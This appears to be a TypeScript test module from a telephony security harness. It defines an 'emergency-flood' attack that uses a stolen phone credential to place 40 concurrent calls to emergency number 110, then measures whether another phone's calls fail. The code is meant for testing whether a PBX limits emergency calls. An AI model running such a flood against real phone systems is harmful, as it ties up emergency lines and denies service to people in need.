import type { Exchange, UserAgent } from "../peers/user-agent";
import { above, type Attack } from "./attack";
import { withStolen } from "./insider";
import { hangUpAll } from "./thief";

const asked = 40;
/** Emergency number of the attacked office's country. */
const emergencyNumber = "110";
/** Emergency calls that one phone may hold. */
const allowed = 2;

const isUp = ({ status }: Exchange) => status === 200;

/** How many of an emergency call and an internal call of another phone fail. */
export async function failedCalls(caller: UserAgent, extension: string): Promise<string[]> {
  const failed: string[] = [];
  for (const number of [emergencyNumber, extension]) {
    const call = await caller.call(number, { patience: 8_000 });
    if (!isUp(call)) failed.push(`${number} ${call.status}`);
    await caller.hangUp(call);
  }
  return failed;
}

/** One phone with valid credentials asks for many emergency calls, which no limit of the owner's holds back. */
export const emergencyFlood: Attack = {
  name: "emergency-flood",
  what: `asks for ${asked} calls to an emergency number with one phone's password; then another phone calls that number and an extension`,
  measures: "emergency calls of the thief above 2, and calls of the other phone that failed",
  goal: "0",
  weak: ["tutorial22"],
  sample: true,
  run: (target) =>
    withStolen(target, 2, async (thief, other) => {
      const calls = Array.from({ length: asked }, () => thief.call(emergencyNumber, { patience: 10_000 }));
      const up = (await Promise.all(calls)).filter(isUp);
      if (up.length === 0) throw new Error("not one emergency call was put through, so no limit was tried");
      const failed = await failedCalls(other, thief.account.number);
      await Promise.all(up.map((call) => thief.hangUp(call)));
      await hangUpAll(target);
      const above2 = Math.max(0, up.length - allowed);
      return above(
        0,
        above2 + failed.length,
        `${up.length} up; the other phone failed: ${failed.join(", ") || "none"}`,
      );
    }),
};
